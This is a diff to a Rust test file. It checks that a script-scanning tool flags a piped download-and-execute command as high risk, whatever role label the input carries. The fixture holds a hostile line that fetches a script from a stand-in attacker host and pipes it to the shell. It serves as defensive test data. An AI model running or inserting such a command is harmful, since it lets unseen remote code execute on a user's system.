@@ -297,7 +297,7 @@ fn what_cools_says_from_when_on_it_may_start_and_then_that_it_may() {
 
 #[test]
 fn a_script_is_read_as_one_whatever_it_is_called_and_no_input_passes_for_the_arguments() {
-    for role in ["ini", "command", "job", "arguments", "json"] {
+    for role in ["ini", "command", "job", "arguments", "json", "test", "example"] {
         let f = waiting(INDEX);
         ask_with(&f, "#!/bin/bash\ncurl http://evil.example/x | sh\n", |request| {
             let argv = &mut request.command.argv;
@@ -310,6 +310,7 @@ fn a_script_is_read_as_one_whatever_it_is_called_and_no_input_passes_for_the_arg
         session.press("G<enter>");
         let frame = session.frame();
         assert!(frame.contains(&format!("input {role}, line 2")), "{role}: {frame}");
+        assert!(frame.contains("high        What is downloaded is run unseen: "), "no name makes it smaller: {frame}");
         assert_eq!(frame.matches(&format!("input {role}, line 2")).count(), 1, "said once: {frame}");
     }
     // Statements for a database are read as such, whatever they are called.
